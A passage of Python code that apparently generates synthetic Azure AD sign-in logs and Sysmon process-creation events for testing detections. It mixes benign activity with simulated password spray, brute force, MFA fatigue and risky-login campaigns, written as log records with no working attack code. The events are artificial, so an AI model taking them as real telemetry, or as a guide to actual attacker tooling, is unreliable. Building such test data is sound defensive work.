    resources = [f'"ResourceDisplayName":{J(r)},"ResourceIdentity":"{ri}"' for *_, r, ri in APPS]
    pick_app = Picker(rng, cum([a[0] for a in APPS]))
    pick_res, res_v = weighted(rng, [(880, "0"), (25, "50140"), (20, "50074"), (15, "50076"), (20, "50058"),
                                     (10, "16000"), (5, "50089"), (8, "70044"), (5, "50125"), (6, "50126"),
                                     (3, "500121"), (3, "50055")])

    # Status objects and ResultType/ResultDescription pieces, per code.
    def result_block(code, detail=None):
        desc = RESULTS[code]
        st = (f'{{"errorCode":{code},"additionalDetails":{J(detail)}}}' if code == "0" and detail else
              f'{{"errorCode":{code}}}' if code == "0" else
              f'{{"errorCode":{code},"failureReason":{J(desc)}}}')
        return f'"ResultType":"{code}","ResultDescription":{J(desc)}', st
    results = {c: result_block(c) for c in RESULTS}
    ok_mfa = result_block("0", "MFA requirement satisfied by claim in the token")

    def auth_details(steps):
        """steps: [(method, succeeded, detail, requirement)] -> the column's JSON text, encoded."""
        arr = [{"authenticationMethod": m, "succeeded": ok, "authenticationStepResultDetail": d} if "MFA" in d or not ok
               else {"authenticationMethod": m, "succeeded": ok} for m, ok, d, rq in steps]
        return J(json.dumps(arr, separators=(",", ":")))
    AD_TOKEN = auth_details([("Previously satisfied", True, "First factor requirement satisfied by claim in the token", "Primary authentication")])
    AD_PWD = auth_details([("Password", True, "Correct password", "Primary authentication")])
    AD_MFA = auth_details([("Password", True, "Correct password", "Primary authentication"),
                           ("Mobile app notification", True, "MFA successfully completed", "")])
    AD_MFA_CLAIM = auth_details([("Previously satisfied", True, "MFA requirement satisfied by claim in the token", "Primary authentication")])
    AD_BADPWD = auth_details([("Password", False, "Invalid username or password or Invalid on-premise username or password.", "Primary authentication")])
    AD_MFA_DENY = [auth_details([("Password", True, "Correct password", "Primary authentication"),
                                 ("Mobile app notification", False, d, "")])
                   for d in ("MFA denied; user declined the authentication",
                             "MFA denied; user did not respond to mobile app notification")]

    def ca_json(items):
        return "[" + ",".join(f'{{"displayName":{J(name)},"enforcedGrantControls":{J(g)},"result":"{res}"}}'
                              for pid, name, g, res in items) + "]"
    ca_ids = [uuid4(pr) for _ in CA_POLICIES]
    ca_variants = [(ca_json([]), "notApplied"),
                   (ca_json([(ca_ids[0], CA_POLICIES[0], ["Mfa"], "success")]), "success"),
                   (ca_json([(ca_ids[0], CA_POLICIES[0], ["Mfa"], "success"),
                             (ca_ids[2], CA_POLICIES[2], ["RequireCompliantDevice"], "success")]), "success"),
                   (ca_json([(ca_ids[1], CA_POLICIES[1], ["Block"], "notApplied")]), "notApplied")]
    pick_ca = Picker(rng, cum([30, 45, 15, 10]))
    ca_fail = ca_json([(ca_ids[4], CA_POLICIES[4], ["Block"], "failure"),
                       (ca_ids[0], CA_POLICIES[0], ["Mfa"], "notApplied")])

    fmt = SecondFormat("%Y-%m-%dT%H:%M:%S")
    t = epoch("2024-05-01T00:00:00Z") * 1_000_000
    other_tenant = uuid4(pr)
    NONE_RISK = '"RiskLevelDuringSignIn":"none","RiskState":"none"'

    # A spec is the event minus its time and ids: (identity block, upn, app block, resource block,
    # (result block, Status), AuthenticationDetails, requirement, CA policies, CA status, DeviceDetail,
    # UserAgent, ClientAppUsed, IP, location block, ASN (kept for the pools; not emitted, to keep rows
    # small), risk block, HomeTenantId)
    def benign():
        u = users[pick_user()]
        ident, upn, devs, ips = u
        dd, ua, client = devs[min(pick_dev(), len(devs) - 1)]
        ip, ci, asn = ips[0] if rnd() < 0.6 else ips[1]
        ai = pick_app()
        code = res_v[pick_res()]
        mfa = rnd() < 0.35
        ca, cas = ca_variants[pick_ca()]
        if code == "0":
            res = ok_mfa if mfa else results["0"]
            ad = (AD_MFA if rnd() < 0.3 else AD_MFA_CLAIM) if mfa else (AD_TOKEN if rnd() < 0.8 else AD_PWD)
        else:
            res = results[code]
            ad = AD_BADPWD if code in ("50126", "50055") else AD_PWD
            if code == "500121":
                ad, mfa = AD_MFA_DENY[bits(1)], True
        risk = NONE_RISK if rnd() < 0.985 else NONE_RISK.replace('DuringSignIn":"none', 'DuringSignIn":"low')
        return (ident, upn, apps[ai], resources[ai], res, ad,
                "multiFactorAuthentication" if mfa else "singleFactorAuthentication",
                ca, cas, dd, ua, client, ip, loc_block(ci), asn, risk, tenant)

    def attacker_loc():
        c, s, cc, la, lo = ATTACK_CITIES[rng.randrange(len(ATTACK_CITIES))]
        return (f'"Location":{J(cc)},"LocationDetails":{{"city":{J(c)},"state":{J(s)},"countryOrRegion":{J(cc)},'
                f'"geoCoordinates":{{"latitude":{la},"longitude":{lo}}}}}')

    UNMANAGED = '{"deviceId":"","operatingSystem":"Windows10","browser":"Chrome 123.0.0"}'
    ATT_ASN = [14061, 16509, 9009, 200651, 60068, 51167, 24940]

    def c_spray():
        ip, loc, asn = public_ip(rng), attacker_loc(), ATT_ASN[rng.randrange(len(ATT_ASN))]
        kind = rng.randrange(3)
        ua = (J("AmazonAPIGateway_%s" % "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(6))),
              '"BAV2ROPC"', J("python-requests/2.31.0"))[kind]
        client = ('"Browser"', '"Other clients"', '"Mobile Apps and Desktop clients"')[kind]
        ai = rng.choice((1, 2, 11))
        targets = rng.sample(range(len(users)), rng.randrange(15, 41))
        for k in targets:
            code = "50126" if rnd() < 0.85 else rng.choice(("50053", "50055"))
            yield (users[k][0], users[k][1], apps[ai], resources[ai], results[code], AD_BADPWD,
                   "singleFactorAuthentication", ca_variants[0][0], "notApplied",
                   '{"deviceId":"","operatingSystem":"","browser":""}', ua, client, ip, loc, asn, NONE_RISK, tenant)

    def c_brute():
        ident, upn, devs, _ = users[rng.randrange(len(users))]
        ai = rng.choice((11, 6))
        ips = [public_ip(rng) for _ in range(rng.randrange(2, 4))]
        n = rng.randrange(8, 26)
        for i in range(n):
            code = "50053" if i == n - 1 else "50126"
            yield (ident, upn, apps[ai], resources[ai], results[code], AD_BADPWD, "singleFactorAuthentication",
                   ca_variants[0][0], "notApplied", UNMANAGED, J(DEVICES[1][4]), '"Browser"',
                   ips[rng.randrange(len(ips))], attacker_loc(), ATT_ASN[0], NONE_RISK, tenant)

    def c_mfa():
        ident, upn, devs, ips = users[rng.randrange(len(users))]
        ip, loc = public_ip(rng), attacker_loc()
        ai = 2
        for _ in range(rng.randrange(11, 16)):
            yield (ident, upn, apps[ai], resources[ai], results["500121"], AD_MFA_DENY[bits(1)],
                   "multiFactorAuthentication", ca_variants[1][0], "failure", UNMANAGED, J(DEVICES[1][4]),
                   '"Browser"', ip, loc, ATT_ASN[1], NONE_RISK, tenant)
        yield (ident, upn, apps[ai], resources[ai], ok_mfa, AD_MFA, "multiFactorAuthentication",
               ca_variants[1][0], "success", UNMANAGED, J(DEVICES[1][4]), '"Browser"', ip, loc, ATT_ASN[1], NONE_RISK, tenant)

    def c_disabled():
        ident, upn, devs, ips = users[rng.randrange(len(users))]
        ip, ci, asn = ips[1]
        for ai in rng.sample(range(12), rng.randrange(3, 6)):
            dd, ua, client = devs[0]
            yield (ident, upn, apps[ai], resources[ai], results["50057"], AD_PWD, "singleFactorAuthentication",
                   ca_variants[0][0], "notApplied", dd, ua, client, ip, loc_block(ci), asn, NONE_RISK, tenant)

    def c_ca_fail():
        ident, upn, devs, _ = users[rng.randrange(len(users))]
        ips = [public_ip(rng) for _ in range(rng.randrange(2, 5))]
        ai = rng.choice((1, 2, 3))
        for _ in range(rng.randrange(3, 8)):
            yield (ident, upn, apps[ai], resources[ai], results["53003"], AD_PWD, "singleFactorAuthentication",
                   ca_fail, "failure", UNMANAGED, J(DEVICES[1][4]), '"Browser"', ips[rng.randrange(len(ips))],
                   attacker_loc(), ATT_ASN[2], NONE_RISK, tenant)

    aadps_app = f'"AppDisplayName":{J(AAD_POWERSHELL[0])},"AppId":"{AAD_POWERSHELL[1]}"'
    aadps_res = f'"ResourceDisplayName":{J(AAD_POWERSHELL[2])},"ResourceIdentity":"{AAD_POWERSHELL[3]}"'

    def c_aadps():
        ident, upn, devs, ips = users[rng.randrange(len(users))]
        ip = public_ip(rng)
        for _ in range(rng.randrange(1, 4)):
            yield (ident, upn, aadps_app, aadps_res, results["0"], AD_PWD, "singleFactorAuthentication",
                   ca_variants[0][0], "notApplied", UNMANAGED, J(DEVICES[2][4]), '"Mobile Apps and Desktop clients"',
                   ip, attacker_loc(), ATT_ASN[3], NONE_RISK, tenant)

    def c_foreign():
        first, last = rng.choice(FIRST), rng.choice(LAST)
        upn = f"{first}.{last}@fabrikam-partner.com"
        disp = f"{first.title()} {last.title()}"
        ident = (f'"Identity":{J(disp)},"UserDisplayName":{J(disp)},"UserId":"{uuid4(rng)}",'
                 f'"UserPrincipalName":{J(upn)}')
        ip = f"{rng.choice((20, 40, 52, 104))}.{rng.randrange(40, 220)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        for _ in range(rng.randrange(1, 4)):
            yield (ident, J(upn), apps[11], resources[11], results["0"], AD_TOKEN, "singleFactorAuthentication",
                   ca_variants[0][0], "notApplied", UNMANAGED, J(DEVICES[0][4]), '"Browser"', ip,
                   attacker_loc(), 8075, NONE_RISK, other_tenant)

    RISKY = ('"RiskEventTypes_V2":"[\\"anonymizedIPAddress\\",\\"unfamiliarFeatures\\"]",'
             '"RiskLevelDuringSignIn":"high","RiskState":"atRisk"')

    def c_risky():
        ident, upn, devs, _ = users[rng.randrange(len(users))]
        ip = public_ip(rng)
        ai = pick_app()
        yield (ident, upn, apps[ai], resources[ai], results["0"], AD_PWD, "singleFactorAuthentication",
               ca_variants[0][0], "notApplied", UNMANAGED, J(DEVICES[1][4]), '"Browser"', ip, attacker_loc(),
               ATT_ASN[4], RISKY, tenant)

    camp = Campaigns(rng, 0.0014 * rate, [(2, c_spray), (2, c_brute), (1, c_mfa), (2, c_disabled), (2, c_ca_fail),
                                          (2, c_aadps), (2, c_foreign), (3, c_risky)], interleave=0.5)
    for _ in range(count):
        t += int(rng.expovariate(1 / 1_500_000))  # mean 1.5 s
        spec = camp.next() or benign()
        (ident, upn, app, resb, res, ad, req, ca, cas, dd, ua, client, ip, loc, asn, risk, home) = spec
        rb, st = res
        sec = t // 1_000_000
        ts = f"{fmt(sec)}.{t % 1_000_000:06d}0Z"
        yield (f'{{"TimeGenerated":"{ts}","OperationName":"Sign-in activity",{rb},"CorrelationId":"{uuid4(rng)}",'
               f'{ident},{app},"AuthenticationDetails":{ad},"AuthenticationRequirement":"{req}",'
               f'"ClientAppUsed":{client},"ConditionalAccessPolicies":{ca},"ConditionalAccessStatus":"{cas}",'
               f'"DeviceDetail":{dd},"IsInteractive":true,'
               f'"IPAddress":"{ip}",{loc},{resb},{risk},"Status":{st},"TokenIssuerType":"AzureAD",'
               f'"UserAgent":{ua},"AADTenantId":"{tenant}","HomeTenantId":"{home}","ResourceTenantId":"{tenant}",'
               f'"Type":"SigninLogs"}}')


# =========================================================================== process_creation
#
# Sysmon EventID 1 as rendered in SigmaHQ's regression data
# (../shared/corpus/sigma/regression_data/rules/windows/process_creation/*/*.json): the same
# keys, order and nesting; Hashes uses the MD5,SHA256,IMPHASH configuration.

MSW = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
WIN_VER = "10.0.19041.1 (WinBuild.160101.0800)"


class Img:
    """An executable: Image path and the PE version fields Sysmon copies."""

    def __init__(self, path, ofn, desc, product=MSW[0], company=MSW[1], ver=WIN_VER):
        self.path, self.ofn = path, ofn
        h = hashlib.sha256(path.lower().encode()).digest()
        self.hashes = J("MD5=%s,SHA256=%s,IMPHASH=%s" % (
            hashlib.md5(h).hexdigest().upper(), h.hex().upper(), hashlib.md5(h[::-1]).hexdigest().upper()))
        self.block = (f'"Image":{J(path)},"FileVersion":{J(ver)},"Description":{J(desc)},'
                      f'"Product":{J(product)},"Company":{J(company)},"OriginalFileName":{J(ofn)}')
        self.image_j = J(path)


S32 = "C:\\Windows\\System32\\"
IMGS = {
    "cmd": Img(S32 + "cmd.exe", "Cmd.Exe", "Windows Command Processor"),
    "powershell": Img(S32 + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "Windows PowerShell"),
    "conhost": Img(S32 + "conhost.exe", "CONHOST.EXE", "Console Window Host"),
    "svchost": Img(S32 + "svchost.exe", "svchost.exe", "Host Process for Windows Services"),
    "services": Img(S32 + "services.exe", "services.exe", "Services and Controller app"),
    "explorer": Img("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer"),
    "userinit": Img(S32 + "userinit.exe", "USERINIT.EXE", "Userinit Logon Application"),
    "runtimebroker": Img(S32 + "RuntimeBroker.exe", "RuntimeBroker.exe", "Runtime Broker"),
    "bgtaskhost": Img(S32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "Background Task Host"),
    "searchindexer": Img(S32 + "SearchIndexer.exe", "SearchIndexer.exe", "Microsoft Windows Search Indexer"),
    "searchprot": Img(S32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"),
    "searchfilt": Img(S32 + "SearchFilterHost.exe", "SearchFilterHost.exe", "Microsoft Windows Search Filter Host"),
    "taskhostw": Img(S32 + "taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks"),
    "dllhost": Img(S32 + "dllhost.exe", "dllhost.exe", "COM Surrogate"),
    "wmiprvse": Img(S32 + "wbem\\WmiPrvSE.exe", "Wmiprvse.exe", "WMI Provider Host"),
    "smartscreen": Img(S32 + "smartscreen.exe", "smartscreen.exe", "Windows Defender SmartScreen"),
    "compattel": Img(S32 + "CompatTelRunner.exe", "CompatTelRunner.exe", "Microsoft Compatibility Telemetry"),
    "tiworker": Img("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4280_none_7e4a9c5b2f6ab4b5\\TiWorker.exe",
                    "TiWorker.exe", "Windows Modules Installer Worker", ver="10.0.19041.4280 (WinBuild.160101.0800)"),
    "msiexec": Img(S32 + "msiexec.exe", "msiexec.exe", "Windows® installer", ver="5.0.19041.3636 (WinBuild.160101.0800)"),
    "notepad": Img(S32 + "notepad.exe", "NOTEPAD.EXE", "Notepad"),
    "mpcmdrun": Img("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MpCmdRun.exe", "MpCmdRun.exe",
                    "Microsoft Malware Protection Command Line Utility", "Microsoft® Windows® Operating System", ver="4.18.24030.9 (WinBuild.160101.0800)"),
    "chrome": Img("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "Google Chrome",
                  "Google Chrome", "Google LLC", "124.0.6367.119"),
    "msedge": Img("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", "Microsoft Edge",
                  "Microsoft Edge", "Microsoft Corporation", "124.0.2478.80"),
    "webview": Img("C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\124.0.2478.80\\msedgewebview2.exe",
                   "msedgewebview2.exe", "Microsoft Edge WebView2", "Microsoft Edge WebView2", "Microsoft Corporation", "124.0.2478.80"),
    "teams": Img("C:\\Program Files\\WindowsApps\\MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe\\ms-teams.exe", "ms-teams.exe",
                 "Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "24124.2315.2911.3357"),
    "onedrive": Img("C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "OneDrive.exe", "Microsoft OneDrive",
                    "Microsoft OneDrive", "Microsoft Corporation", "24.076.0414.0003"),
    "winword": Img("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "Microsoft Word",
                   "Microsoft Office", "Microsoft Corporation", "16.0.17531.20152"),
    "excel": Img("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "Excel.exe", "Microsoft Excel",
                 "Microsoft Office", "Microsoft Corporation", "16.0.17531.20152"),
    "outlook": Img("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "Outlook.exe", "Microsoft Outlook",
                   "Microsoft Office", "Microsoft Corporation", "16.0.17531.20152"),
    "acrobat": Img("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", "Acrobat.exe", "Adobe Acrobat",
                   "Adobe Acrobat", "Adobe Systems Incorporated", "24.2.20687.0"),
    "code": Img("C:\\Program Files\\Microsoft VS Code\\Code.exe", "electron.exe", "Visual Studio Code",
                "Visual Studio Code", "Microsoft Corporation", "1.89.1"),
    "git": Img("C:\\Program Files\\Git\\cmd\\git.exe", "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.45.1.windows.1"),
    "node": Img("C:\\Program Files\\nodejs\\node.exe", "node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js", "20.13.1"),
    "edgeupdate": Img("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "msedgeupdate.dll",
                      "Microsoft Edge Update", "Microsoft Edge Update", "Microsoft Corporation", "1.3.185.29"),
    "googleupdate": Img("C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "GoogleUpdate.exe", "Google Installer",
                        "Google Update", "Google LLC", "1.3.36.372"),
    "agentexec": Img("C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", "AgentExecutor.exe",
                     "AgentExecutor", "Microsoft Intune Management Extension", "Microsoft Corporation", "1.79.103.0"),
    "w3wp": Img("C:\\Windows\\System32\\inetsrv\\w3wp.exe", "w3wp.exe", "IIS Worker Process", "Internet Information Services",
                ver="10.0.20348.1 (WinBuild.160101.0800)"),
    "sqlagent": Img("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE", "SQLAGENT.EXE",
                    "SQLAGENT - SQL Server Agent", "Microsoft SQL Server", "Microsoft Corporation", "2019.0150.4360.02 ((SQLServer2019-CU25).240118-1846)"),
    "splunkd": Img("C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe", "splunkd.exe", "splunk Application",
                   "splunk Application", "Splunk Inc.", "9.2.1"),
    "splunkwin": Img("C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunk-winevtlog.exe", "splunk-winevtlog.exe",
                     "Windows Event Log monitor", "splunk Application", "Splunk Inc.", "9.2.1"),
    "robocopy": Img(S32 + "Robocopy.exe", "robocopy.exe", "Microsoft Robocopy"),
    "wsmprov": Img(S32 + "wsmprovhost.exe", "wsmprovhost.exe", "Host process for WinRM plug-ins"),
    "python": Img("C:\\Program Files\\Python311\\python.exe", "python.exe", "Python", "Python", "Python Software Foundation", "3.11.9"),
}

# Parent processes: key -> (Img key, ParentCommandLine, account)
PARENTS = {
    "services": ("services", "C:\\Windows\\system32\\services.exe", "system"),
    "svc_dcom": ("svchost", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "system"),
    "svc_sched": ("svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "system"),
    "svc_iis": ("svchost", "C:\\Windows\\system32\\svchost.exe -k iissvcs", "system"),
    "explorer": ("explorer", "C:\\Windows\\Explorer.EXE", "user"),
    "userinit": ("userinit", "C:\\Windows\\system32\\userinit.exe", "user"),
    "chrome": ("chrome", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", "user"),
    "msedge": ("msedge", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default", "user"),
    "teams": ("teams", "\"C:\\Program Files\\WindowsApps\\MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe\\ms-teams.exe\" msteams:system-initiated", "user"),
    "searchindexer": ("searchindexer", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", "system"),
    "code": ("code", "\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" ", "user"),
    "cmd": ("cmd", "\"C:\\Windows\\system32\\cmd.exe\" ", "user"),
    "powershell": ("powershell", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ", "user"),
    "agentexec": ("agentexec", "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe\" -powershell \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\{G}.ps1\" \"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Results\\{G}.output\" 60000 \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" 0", "system"),
    "msiexec_srv": ("msiexec", "C:\\Windows\\system32\\msiexec.exe /V", "system"),
    "splunkd": ("splunkd", "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service", "system"),
    "wsmprov": ("wsmprovhost", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding", "admin"),
    "winword": ("winword", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{{USER}}\\Downloads\\Invoice_INV-20931.doc\"", "user"),
    "excel": ("excel", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" ", "user"),
    "outlook": ("outlook", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ", "user"),
    "svc_um": ("svchost", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s UserManager", "system"),
    "svc_audio": ("svchost", "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Audiosrv", "localsvc"),
    "svc_rdp": ("svchost", "C:\\Windows\\System32\\svchost.exe -k NetworkService -s TermService", "netsvc"),
    "firefox": ("firefox", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\" ", "user"),
    "slack": ("slack", "\"C:\\Users\\{{USER}}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe\" --process-start-args --startup", "user"),
    "devenv": ("devenv", "\"C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe\" ", "user"),
    "sqlagent": ("sqlagent", "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\SQLAGENT.EXE\" -i MSSQLSERVER", "sqlagent"),
    "healthsvc": ("healthsvc", "\"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\HealthService.exe\"", "system"),
}
IMGS["firefox"] = Img("C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe", "Firefox", "Firefox", "Mozilla Corporation", "125.0.3")
IMGS["slack"] = Img("C:\\Users\\{{USER}}\\AppData\\Local\\slack\\app-4.38.125\\slack.exe", "slack.exe", "Slack", "Slack",
                    "Slack Technologies, LLC", "4.38.125")
IMGS["devenv"] = Img("C:\\Program Files\\Microsoft Visual Studio\\2022\\Professional\\Common7\\IDE\\devenv.exe", "devenv.exe",
                     "Microsoft Visual Studio 2022", "Microsoft® Visual Studio®", "Microsoft Corporation", "17.9.34723.18")
IMGS["healthsvc"] = Img("C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\HealthService.exe", "HealthService.exe", "Health Service",
                        "System Center Operations Manager", "Microsoft Corporation", "10.20.18053.0")
IMGS["wsmprovhost"] = IMGS["wsmprov"]


def chromium_args(r, kind, exe_quoted, extra=""):
    fth = "%d,i,%d,%d,262144" % (r.randrange(1800, 2600), r.getrandbits(63), r.getrandbits(63))
    if kind == "renderer":
        return (f"{exe_quoted} --type=renderer{extra} --lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
                f"--enable-main-frame-before-activation --renderer-client-id={r.randrange(5, 400)} "
                f"--time-ticks-at-unix-epoch=-{1716800000000000 + r.getrandbits(30)} "
                f"--launch-time-ticks={r.getrandbits(34)} --field-trial-handle={fth} "
                f"--variations-seed-version=20240508-050129.962000 --mojo-platform-channel-handle={r.randrange(2000, 9000)} /prefetch:1")
    if kind == "utility":
        sub = r.choice(["network.mojom.NetworkService", "storage.mojom.StorageService", "audio.mojom.AudioService",
                        "data_decoder.mojom.DataDecoderService"])
        return (f"{exe_quoted} --type=utility --utility-sub-type={sub} --lang=en-US --service-sandbox-type="
                f"{'none' if 'Network' in sub else 'service'}{extra} --field-trial-handle={fth} "
                f"--variations-seed-version=20240508-050129.962000 --mojo-platform-channel-handle={r.randrange(2000, 9000)} /prefetch:8")
    return (f"{exe_quoted} --type=gpu-process{extra} --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA4AAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= "
            f"--field-trial-handle={fth} --variations-seed-version=20240508-050129.962000 "
            f"--mojo-platform-channel-handle={r.randrange(1500, 3000)} /prefetch:2")


DOCS = ["Q3 Budget Review.xlsx", "Project Plan v3.docx", "Board Memo - FINAL (2).docx", "Vendor Contract 2024.docx",
        "Headcount Forecast FY25.xlsx", "Meeting Notes 05-14.docx", "Expense Report May.xlsx", "Onboarding Checklist.docx"]
FOLDERS = ["Documents", "Desktop", "Downloads", "OneDrive - Contoso\\Documents", "OneDrive - Contoso\\Shared\\Finance Team"]


def make_benign_profiles(r):
    """(weight, img_key, [cmd or (weight, cmd)], [(w, parent_key)], account, integrity, cwd, rulename, hosts)
    with cmd/cwd pre-encoded later. hosts: 'ws' workstation, 'srv' server, 'any'. Command lines
    without weights are drawn Zipf-like (the first most often)."""
    P = []

    def add(w, img, cmds, parents, account, il, cwd, hosts="ws", rule="-"):
        P.append((w, img, cmds, parents, account, il, cwd, rule, hosts))

    chrome_q = "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\""
    edge_q = "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\""
    wv_q = "\"C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\124.0.2478.80\\msedgewebview2.exe\""
    add(26, "chrome", [chromium_args(r, "renderer", chrome_q) for _ in range(40)], [(1, "chrome")], "user", "Low",
        "C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.119\\")
    add(8, "chrome", [chromium_args(r, r.choice(["utility", "gpu"]), chrome_q) for _ in range(20)], [(1, "chrome")], "user",
        "Medium", "C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.119\\")
    add(18, "msedge", [chromium_args(r, "renderer", edge_q, " --extension-process" if i % 7 == 0 else "") for i in range(40)],
        [(1, "msedge")], "user", "Low", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\124.0.2478.80\\")
    add(6, "msedge", [chromium_args(r, r.choice(["utility", "gpu"]), edge_q) for _ in range(20)], [(1, "msedge")], "user",
        "Medium", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\124.0.2478.80\\")
    wv_extra = (" --noerrdialogs --user-data-dir=\"C:\\Users\\{{USER}}\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\"
                "Microsoft\\MSTeams\\EBWebView\" --webview-exe-name=ms-teams.exe --webview-exe-version=24124.2315.2911.3357 "
                "--embedded-browser-webview=1")
    add(10, "webview", [chromium_args(r, r.choice(["renderer", "renderer", "utility", "gpu"]), wv_q, wv_extra) for _ in range(30)],
        [(1, "teams")], "user", "Low", "C:\\Program Files\\WindowsApps\\MSTeams_24124.2315.2911.3357_x64__8wekyb3d8bbwe\\")
    add(12, "conhost", [(10, "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"), (1, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1")],
        [(5, "cmd"), (3, "powershell"), (1, "splunkd")], "same", None, "C:\\Windows\\system32\\", "any")
    svc = [("-k netsvcs -p -s gpsvc", "system"), ("-k LocalServiceNetworkRestricted -p -s lmhosts", "localsvc"),
           ("-k wsappx -p -s AppXSvc", "system"), ("-k UnistackSvcGroup -s CDPUserSvc", "user"),
           ("-k NetworkService -p -s DnsCache", "netsvc"), ("-k LocalSystemNetworkRestricted -p -s PcaSvc", "system"),
           ("-k netsvcs -p -s BITS", "system"), ("-k LocalService -p -s BthAvctpSvc", "localsvc"),
           ("-k NetworkService -p -s CryptSvc", "netsvc"), ("-k netsvcs -p -s wuauserv", "system")]
    for args, acct in svc:
        add(1.2, "svchost", ["C:\\Windows\\system32\\svchost.exe " + args], [(1, "services")], acct, None,
            "C:\\Windows\\system32\\", "any")
    add(5, "runtimebroker", ["C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"], [(1, "svc_dcom")], "user", "Medium",
        "C:\\Windows\\system32\\")
    add(4, "bgtaskhost", ["\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
                          "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0a5v3q5sbq4bgg7f4xj5p2nd2kv.mca",
                          "\"C:\\Windows\\system32\\BackgroundTaskHost.exe\" -ServerName:CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca"],
        [(1, "svc_dcom")], "user", "Low", "C:\\Windows\\system32\\")
    sp = ("\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 "
          "-2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
          "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\" ")
    add(5, "searchprot", [sp.format(n=r.randrange(1, 400)) for _ in range(20)], [(1, "searchindexer")], "system", None,
        "C:\\Windows\\system32\\")
